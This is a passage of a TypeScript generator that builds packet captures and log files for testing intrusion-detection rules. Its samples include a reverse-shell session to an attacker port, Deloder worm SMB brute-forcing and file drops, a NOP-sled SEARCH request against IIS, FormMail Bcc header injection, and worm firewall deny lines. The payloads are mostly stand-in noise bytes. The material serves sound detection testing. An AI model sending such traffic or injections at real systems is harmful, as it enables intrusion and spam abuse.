    s.send('client', 'whoami\r\n');
    s.send('server', 'nt authority\\system\r\n\r\nC:\\WINNT\\system32>');
    s.close();
    cap.session(s);
  });
  pcap('misc/reverse-shell.pcap', [3100822], 'the web server connecting out to the attacker on tcp/8884 and handing over a command prompt (a reverse shell, as the wb.c payload opens)', (cap) => {
    const s = cap.tcp(IIS, `${ATTACKER}:8884`);
    s.handshake();
    s.send('client', '\r\nC:\\WINNT\\system32>');
    s.send('server', 'dir\n');
    s.send('client', `dir\n${DIR_LISTING}\r\nC:\\WINNT\\system32>`);
    s.close();
    cap.session(s);
  });
  pcap(
    'misc/neg-telnet-shell.pcap',
    [],
    'a Windows 2000 Telnet Server session showing the same banner after login, and a web page quoting it',
    (cap) => {
      const s = cap.tcp(COLLEAGUE, `${TELNETD}:23`);
      s.handshake();
      s.send('server', 'Welcome to Microsoft Telnet Service \r\n\r\nlogin: ');
      s.send('client', 'admin\r\n');
      s.send('server', 'password: ');
      s.send('client', 'secret\r\n');
      s.send('server', `\r\n${banner}`);
      s.send('server', banner);
      s.close();
      cap.session(s);
      cap.http(COLLEAGUE, `${IIS}:80`, [{ request: get('/kb/cmd.html', { Host: IIS }), response: ok(`<pre>${banner}</pre>`) }]);
    },
    [3100821, 3100822],
  );
}

// ---------------------------------------------------------------------------------------------
// Deloder over SMB (sids 3100901-3100904)

const SMB_NEGOTIATE = 0x72;
const SMB_SESSION_SETUP = 0x73;
const SMB_TREE_CONNECT = 0x75;
const SMB_NT_CREATE = 0xa2;
const SMB_WRITE = 0x2f;
const STATUS_LOGON_FAILURE = 0xc000006d;
const FLAGS2_UNICODE = 0x8000;

interface SmbMessage {
  command: number;
  status?: number;
  response?: boolean;
  unicode?: boolean;
  uid?: number;
  tid?: number;
  words?: Uint8Array;
  data?: Uint8Array;
}

/** An SMB1 message in its NetBIOS session frame. */
function smb(m: SmbMessage): Uint8Array {
  const words = m.words ?? new Uint8Array(0);
  const data = m.data ?? new Uint8Array(0);
  const body = new Uint8Array(32 + 1 + words.length + 2 + data.length);
  const v = new DataView(body.buffer);
  body.set([0xff, 0x53, 0x4d, 0x42, m.command]);
  v.setUint32(5, m.status ?? 0, true);
  body[9] = m.response === true ? 0x98 : 0x18;
  v.setUint16(10, 0x0001 | 0x4000 | (m.unicode === true ? FLAGS2_UNICODE : 0), true);
  v.setUint16(24, m.tid ?? 0, true);
  v.setUint16(26, 0xfeff, true);
  v.setUint16(28, m.uid ?? 0, true);
  v.setUint16(30, 1, true);
  body[32] = words.length / 2;
  body.set(words, 33);
  v.setUint16(33 + words.length, data.length, true);
  body.set(data, 35 + words.length);
  const frame = new Uint8Array(4 + body.length);
  frame[1] = (body.length >> 16) & 0xff;
  frame[2] = (body.length >> 8) & 0xff;
  frame[3] = body.length & 0xff;
  frame.set(body, 4);
  return frame;
}

function smbString(text: string, unicode: boolean): Uint8Array {
  return unicode ? toBytes([...`${text}\0`].map((c) => `${c}\0`).join('')) : toBytes(`${text}\0`);
}

function andxWords(count: number): Uint8Array {
  const w = new Uint8Array(count * 2);
  w[0] = 0xff;
  return w;
}

function negotiate(s: TcpSession): void {
  s.send('client', smb({ command: SMB_NEGOTIATE, data: toBytes('\x02NT LM 0.12\x00') }));
  const words = new Uint8Array(34);
  words[2] = 0x03;
  s.send('server', smb({ command: SMB_NEGOTIATE, response: true, words, data: noise(8, 0x90) }));
}

function sessionSetup(s: TcpSession, attempt: number, status: number): void {
  const data = concatBytes([noise(24, 0xa0 + attempt), noise(24, 0xb0 + attempt), smbString('Administrator', false), smbString('', false), smbString('Windows 2000 2195', false), smbString('Windows 2000 5.0', false)]);
  const words = andxWords(13);
  words[14] = 24;
  words[16] = 24;
  s.send('client', smb({ command: SMB_SESSION_SETUP, words, data }));
  s.send('server', smb({ command: SMB_SESSION_SETUP, response: true, status, uid: status === 0 ? 0x800 : 0, ...(status === 0 ? { words: andxWords(3) } : {}) }));
}

function treeConnect(s: TcpSession, path: string, unicode: boolean): void {
  const data = concatBytes([Uint8Array.of(0), ...(unicode ? [Uint8Array.of(0)] : []), smbString(path, unicode), toBytes('?????\0')]);
  const words = andxWords(4);
  words[6] = 1;
  s.send('client', smb({ command: SMB_TREE_CONNECT, unicode, uid: 0x800, words, data }));
  s.send('server', smb({ command: SMB_TREE_CONNECT, response: true, unicode, uid: 0x800, tid: 0x801, words: andxWords(3), data: toBytes('A:\0NTFS\0') }));
}

function createAndWrite(s: TcpSession, name: string, unicode: boolean, send: SendOptions = {}): void {
  const words = andxWords(24);
  const nameBytes = smbString(name, unicode);
  words[5] = nameBytes.length & 0xff;
  words[6] = nameBytes.length >> 8;
  s.send('client', smb({ command: SMB_NT_CREATE, unicode, uid: 0x800, tid: 0x801, words, data: concatBytes([...(unicode ? [Uint8Array.of(0)] : []), nameBytes]) }), send);
  s.send('server', smb({ command: SMB_NT_CREATE, response: true, unicode, uid: 0x800, tid: 0x801, words: andxWords(34) }));
  const file = concatBytes([toBytes('MZ\x90\x00'), noise(1200, name.length)]);
  s.send('client', smb({ command: SMB_WRITE, uid: 0x800, tid: 0x801, words: andxWords(12), data: file }));
  s.send('server', smb({ command: SMB_WRITE, response: true, uid: 0x800, tid: 0x801, words: andxWords(6) }));
}

function deloderSamples(): void {
  pcap('deloder/brute-force.pcap', [3100903], 'eight SMB connections to tcp/445, each trying Administrator with another weak password and getting STATUS_LOGON_FAILURE', (cap) => {
    for (let i = 0; i < 8; i++) {
      const s = cap.tcp(ATTACKER, `${FILESRV}:445`);
      s.handshake();
      negotiate(s);
      sessionSetup(s, i, STATUS_LOGON_FAILURE);
      s.close();
      cap.session(s);
    }
  });
  pcap(
    'deloder/infection-unicode.pcap',
    [3100901, 3100902, 3100904],
    'a successful logon, a tree connect to \\\\192.168.1.40\\C$, INST.EXE written to the All Users Startup folder and DVLDR32.EXE to system32 (UTF-16 names)',
    (cap) => {
      const s = cap.tcp(ATTACKER, `${FILESRV}:445`);
      s.handshake();
      negotiate(s);
      sessionSetup(s, 9, 0);
      treeConnect(s, `\\\\${FILESRV}\\C$`, true);
      createAndWrite(s, '\\Documents and Settings\\All Users\\Start Menu\\Programs\\Startup\\INST.EXE', true);
      createAndWrite(s, '\\WINNT\\system32\\DVLDR32.EXE', true);
      s.close();
      cap.session(s);
    },
  );
  pcap(
    'deloder/infection-ascii-segmented.pcap',
    [3100901, 3100902, 3100904],
    'the same infection with ASCII names, the file-name requests cut into 5-byte segments, to ADMIN$',
    (cap) => {
      const s = cap.tcp(ATTACKER2, `${FILESRV}:445`);
      s.handshake();
      negotiate(s);
      sessionSetup(s, 10, 0);
      treeConnect(s, `\\\\${FILESRV}\\ADMIN$`, false);
      const fives: SendOptions = { segments: Array.from({ length: 60 }, () => 5) };
      createAndWrite(s, '\\Documents and Settings\\All Users\\Start Menu\\Programs\\Startup\\inst.exe', false, fives);
      createAndWrite(s, '\\system32\\dvldr32.exe', false, fives);
      s.close();
      cap.session(s);
    },
  );
  pcap(
    'deloder/neg-file-share.pcap',
    [],
    'a colleague using a file share: two mistyped passwords then a logon, the PUBLIC share, setup\\inst.exe and notes about dvldr written',
    (cap) => {
      const s = cap.tcp(COLLEAGUE, `${FILESRV}:445`);
      s.handshake();
      negotiate(s);
      sessionSetup(s, 20, STATUS_LOGON_FAILURE);
      sessionSetup(s, 21, STATUS_LOGON_FAILURE);
      sessionSetup(s, 22, 0);
      treeConnect(s, '\\\\FILESRV\\PUBLIC', true);
      treeConnect(s, '\\\\FILESRV\\IPC$', true);
      createAndWrite(s, '\\setup\\inst.exe', true);
      createAndWrite(s, '\\docs\\dvldr-removal.txt', true);
      s.close();
      cap.session(s);
    },
    [3100901, 3100902, 3100903, 3100904],
  );
}

/** A NOP sled written as %u9090 escapes (sid 3100011). */
function nopSledEscapeSamples(): void {
  pcap('ms03-007/nop-sled-u9090.pcap', [3100011], 'a SEARCH whose URI carries a 40-NOP sled written as %u9090 escapes (two NOPs each) before its payload', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [
      {
        request: `SEARCH /${'%u9090'.repeat(20)}${'%u6858%ucbd3%u7801'.repeat(4)}AAAA HTTP/1.1\r\nHost: ${IIS}\r\nContent-Length: 0\r\n\r\n`,
        response: { status: 400, reason: 'Bad Request', headers: { Server: 'Microsoft-IIS/5.0' } },
      },
    ]);
  });
  pcap(
    'ms03-007/neg-u-escapes.pcap',
    [],
    'Chinese search terms written as %u escapes, U+9090 among them, by an old client',
    (cap) => {
      cap.http(COLLEAGUE, `${IIS}:80`, [
        { request: get('/search.asp?q=%u9090%u4e2d%u6587&lang=zh', { Host: IIS }), response: ok('<html>results</html>') },
        { request: get('/docs/%u9090%u9090%u9090/index.html', { Host: IIS }), response: notFound() },
      ]);
    },
    [3100006, 3100011],
  );
}

/** FormMail header injection in a POST body (sid 3100605). */
function formmailPostSamples(): void {
  pcap('formmail/header-injection-post.pcap', [3100605], 'a POST to FormMail.pl whose email field carries an encoded newline and a Bcc: header (as spam tools fill in the form)', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [
      {
        request: { method: 'POST', uri: '/cgi-bin/FormMail.pl', headers: { Host: IIS, 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'recipient=webmaster&email=x%40example.net%0ABcc%3A%20victim1%40example.org%2Cvictim2%40example.org&subject=hi&comments=Buy+now' },
        response: ok('<html>Thank you</html>'),
      },
    ]);
  });
}

// ---------------------------------------------------------------------------------------------
// Firewall logs (sids 3101001-3101002)

function firewallSamples(): void {
  log(
    'firewall-worms.log',
    [3101001, 3101002],
    'netfilter and PIX/ASA deny lines for 1434/udp (Slammer, 404-byte datagrams) and 445/tcp SYNs (Deloder), PIX in both its forms (interface:address/port, and from address/port to address/port), one of them over IPv6',
    [
      `Mar 17 13:00:01 fw kernel: DROP IN=eth0 OUT= MAC=00:0c:29:aa:bb:cc:00:0c:29:dd:ee:ff:08:00 SRC=${ATTACKER} DST=${SQL} LEN=404 TOS=0x00 PREC=0x00 TTL=113 ID=31337 PROTO=UDP SPT=3072 DPT=1434 LEN=384`,
      `Mar 17 13:00:02 fw kernel: DROP IN=eth0 OUT= MAC=00:0c:29:aa:bb:cc:00:0c:29:dd:ee:ff:08:00 SRC=${ATTACKER2} DST=192.168.1.31 LEN=404 TOS=0x00 PREC=0x00 TTL=110 ID=4242 PROTO=UDP SPT=1029 DPT=1434 LEN=384`,
      `Mar 17 13:00:03 fw kernel: DROP IN=eth0 OUT= MAC=00:0c:29:aa:bb:cc:00:0c:29:dd:ee:ff:08:00 SRC=${ATTACKER} DST=${FILESRV} LEN=48 TOS=0x00 PREC=0x00 TTL=113 ID=512 DF PROTO=TCP SPT=3377 DPT=445 WINDOW=16384 RES=0x00 SYN URGP=0`,
      `Mar 17 13:00:04 fw kernel: DROP IN=eth0 OUT= MAC=00:0c:29:aa:bb:cc:00:0c:29:dd:ee:ff:08:00 SRC=${ATTACKER} DST=192.168.1.41 LEN=48 TOS=0x00 PREC=0x00 TTL=113 ID=513 DF PROTO=TCP SPT=3378 DPT=445 WINDOW=16384 RES=0x00 SYN URGP=0`,
      `Mar 17 13:00:05 pix %PIX-4-106023: Deny udp src outside:${ATTACKER2}/1029 dst inside:${SQL}/1434 by access-group "outside_in" [0x0, 0x0]`,
      `Mar 17 13:00:06 asa %ASA-4-106023: Deny tcp src outside:2001:db8::5/3380 dst inside:2001:db8:1::40/445 by access-group "outside_in" [0x0, 0x0]`,
      `Mar 17 13:00:07 pix %PIX-2-106006: Deny inbound UDP from ${ATTACKER2}/1029 to ${SQL}/1434 on interface outside`,
      `Mar 17 13:00:08 pix %PIX-2-106001: Inbound TCP connection denied from ${ATTACKER}/3377 to ${FILESRV}/445 flags SYN  on interface outside`,
      `Mar 17 13:00:09 asa %ASA-6-106015: Deny TCP (no connection) from ${ATTACKER}/3378 to 192.168.1.41/445 flags SYN  on interface outside`,
    ],
  );
  log(
    'neg-firewall.log',
    [],
    'netfilter lines for DNS, web, 1433/tcp, 4450/tcp and 14340/udp; PIX lines from port 1434 and 445 to other ports',
    [
      `Mar 17 13:10:01 fw kernel: ACCEPT IN=eth1 OUT=eth0 SRC=${COLLEAGUE} DST=192.168.1.2 LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID=1 PROTO=UDP SPT=1053 DPT=53 LEN=40`,
      `Mar 17 13:10:02 fw kernel: ACCEPT IN=eth0 OUT=eth1 SRC=${ATTACKER} DST=${IIS} LEN=60 TOS=0x00 PREC=0x00 TTL=50 ID=2 DF PROTO=TCP SPT=3001 DPT=80 WINDOW=5840 RES=0x00 SYN URGP=0`,
      `Mar 17 13:10:03 fw kernel: DROP IN=eth0 OUT= SRC=${ATTACKER} DST=${SQL} LEN=48 TOS=0x00 PREC=0x00 TTL=113 ID=3 DF PROTO=TCP SPT=3002 DPT=1433 WINDOW=16384 RES=0x00 SYN URGP=0`,
      `Mar 17 13:10:04 fw kernel: DROP IN=eth0 OUT= SRC=${ATTACKER} DST=${FILESRV} LEN=48 TOS=0x00 PREC=0x00 TTL=113 ID=4 DF PROTO=TCP SPT=3003 DPT=4450 WINDOW=16384 RES=0x00 SYN URGP=0`,
      `Mar 17 13:10:05 fw kernel: DROP IN=eth0 OUT= SRC=${ATTACKER} DST=${SQL} LEN=40 TOS=0x00 PREC=0x00 TTL=113 ID=5 PROTO=UDP SPT=3004 DPT=14340 LEN=20`,
      `Mar 17 13:10:06 pix %PIX-2-106006: Deny inbound UDP from ${ATTACKER2}/1434 to ${SQL}/1029 on interface outside`,
      `Mar 17 13:10:07 pix %PIX-2-106001: Inbound TCP connection denied from ${ATTACKER}/445 to ${FILESRV}/4450 flags SYN  on interface outside`,
    ],
    [3101001, 3101002],
  );
  log(
    'neg-web-access.log',
    [],
    'an ordinary Apache access log: normal pages, a contact form, Index Server, WebDAV use, cmd.exe only in a query string, 445 and 1434 as URL path segments, Cyrillic paths in cp1251 and KOI8-R (letter pairs such as %C0%EF that look like overlong UTF-8)',
    [
      `${COLLEAGUE} - - [17/Mar/2003:13:20:01 +0000] "GET /index.html HTTP/1.1" 200 5120 "-" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
      `${COLLEAGUE} - - [17/Mar/2003:13:20:02 +0000] "GET /formmail.html HTTP/1.1" 200 900 "http://www.example.com/" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
      `${COLLEAGUE} - - [17/Mar/2003:13:20:03 +0000] "POST /cgi-bin/formmail.pl HTTP/1.1" 302 0 "http://www.example.com/formmail.html" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
      `${COLLEAGUE} - - [17/Mar/2003:13:20:04 +0000] "GET /query.idq?CiRestriction=report&CiMaxRecordsPerPage=10 HTTP/1.1" 200 2048 "-" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
      `${COLLEAGUE} - - [17/Mar/2003:13:20:05 +0000] "PROPFIND /docs/ HTTP/1.1" 207 1800 "-" "Microsoft Data Access Internet Publishing Provider DAV 1.1"`,
      `${COLLEAGUE} - - [17/Mar/2003:13:20:06 +0000] "GET /search.asp?q=cmd.exe+tutorial HTTP/1.1" 200 3000 "-" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
      `${COLLEAGUE} - - [17/Mar/2003:13:20:07 +0000] "GET /caf%C3%A9/men%C3%BC.html HTTP/1.1" 200 1500 "-" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
      // A web line has no ports, so the firewall-log rules see it: a port number as a path segment is not a firewall line.
      `${COLLEAGUE} - - [17/Mar/2003:13:20:08 +0000] "GET /catalog/item/445 HTTP/1.1" 200 3100 "http://shop.example.com:8080/445" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
      `${COLLEAGUE} - - [17/Mar/2003:13:20:09 +0000] "GET /reports/2003/1434 HTTP/1.1" 200 2700 "-" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
      // Cyrillic in the 8-bit code pages Russian sites used: cp1251 "Апрель", KOI8-R "меню" and "аэропорт".
      `${COLLEAGUE} - - [17/Mar/2003:13:20:10 +0000] "GET /news/%C0%EF%F0%E5%EB%FC/ HTTP/1.1" 200 4100 "-" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
      `${COLLEAGUE} - - [17/Mar/2003:13:20:11 +0000] "GET /%CD%C5%CE%C0.html HTTP/1.1" 200 2200 "-" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
      `${COLLEAGUE} - - [17/Mar/2003:13:20:12 +0000] "GET /search?q=%C1%DC%D2%CF%D0%CF%D2%D4 HTTP/1.1" 200 900 "-" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"`,
    ],
    [3100001, 3100003, 3100010, 3100301, 3100303, 3100401, 3100501, 3100503, 3100504, 3100601, 3100602, 3100604, 3101001, 3101002],
  );
}

// ---------------------------------------------------------------------------------------------
// Output

function readme(): string {
  const row = (s: Sample): string => {
    const verdict = s.expect.length > 0 ? `must trigger ${s.expect.join(', ')} and nothing else` : `must trigger nothing (near miss for ${(s.against ?? []).join(', ')})`;
    return `| \`${s.file}\` | ${s.shows.replace(/\|/g, '\\|')} | ${verdict} |`;
  };
  const pos = samples.filter((s) => s.expect.length > 0);
  const neg = samples.filter((s) => s.expect.length === 0);
  return [
    '# samples',
    '',
    'Captures and log files that show what each rule in `rules/` must detect and what it must leave',
    'alone. Generated by `npx tsx scripts/make-samples.ts` (deterministic: rerunning it rewrites identical',
    'files); do not edit them by hand.',
    '',
    `Scan them with the variables in \`manifest.json\` (\`HOME_NET=${VARS.HOME_NET}\`): servers sit in`,
    '192.168.1.0/24, desktops in 192.168.10.0/24, attackers and Internet hosts in 198.51.100.0/24 and',
    '203.0.113.0/24. Timestamps start on 2003-03-17 09:00 UTC.',
    '',
    '`manifest.json` lists every file with `kind` (pcap or log), `expect`: the sids the whole file',
    'must trigger, exactly (no other sid may fire; `[]` for a negative sample, which must trigger no',
    'rule of the set at all), `against` for negatives: the rules it is a near miss for, and `shows`.',
    'The tests in `test/rules/` replay every file through the scanner and hold it to that; a replay',
    'of the whole folder (`kanshi scan --var HOME_NET=192.168.0.0/16 -r rules samples`) shows them all.',
    '',
    'Key rules have variants that a sensor must see through: TCP segments of 1-13 bytes, out of',
    'order and retransmitted, IP fragments sent last-first, %XX and %uXXXX encodings, method and',
    'command case, header folding, encoded exploit padding.',
    '',
    `## Positive samples (${pos.length})`,
    '',
    '| file | shows | verdict |',
    '| --- | --- | --- |',
    ...pos.map(row),
    '',
    `## Negative samples (${neg.length})`,
    '',
    '| file | shows | verdict |',
    '| --- | --- | --- |',
    ...neg.map(row),
    '',
  ].join('\n');
}

function main(): void {
  webdavSamples();
  sendmailSamples();
  slammerSamples();
  codeRedSamples();
  nimdaSamples();
  webIisSamples();
  formmailSamples();
  sshSamples();
  miscSamples();
  deloderSamples();
  firewallSamples();
  // Samples added later come last: the capture builder numbers ports and sequences in the order
  // samples are made, so the earlier files stay byte for byte as they were.
  formmailPostSamples();
  nopSledEscapeSamples();

  rmSync(OUT, { recursive: true, force: true });
  for (const s of samples) {
    const path = join(OUT, s.file);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, s.bytes);
  }
  const manifest = {
    description: 'kanshi rule samples: each file and the sids it must trigger (exactly); [] means no alert at all',
    vars: VARS,
    samples: Object.fromEntries(
      samples.map((s) => [s.file, { kind: s.kind, expect: [...s.expect].sort((a, b) => a - b), ...(s.against ? { against: [...s.against].sort((a, b) => a - b) } : {}), shows: s.shows }]),
    ),
  };
  writeFileSync(join(OUT, 'manifest.json'), JSON.stringify(manifest, null, 2) + '\n');
  writeFileSync(join(OUT, 'README.md'), readme());
  const total = samples.reduce((n, s) => n + s.bytes.length, 0);
  process.stdout.write(`wrote ${samples.length} samples (${total} bytes) to ${OUT}\n`);
}

main();
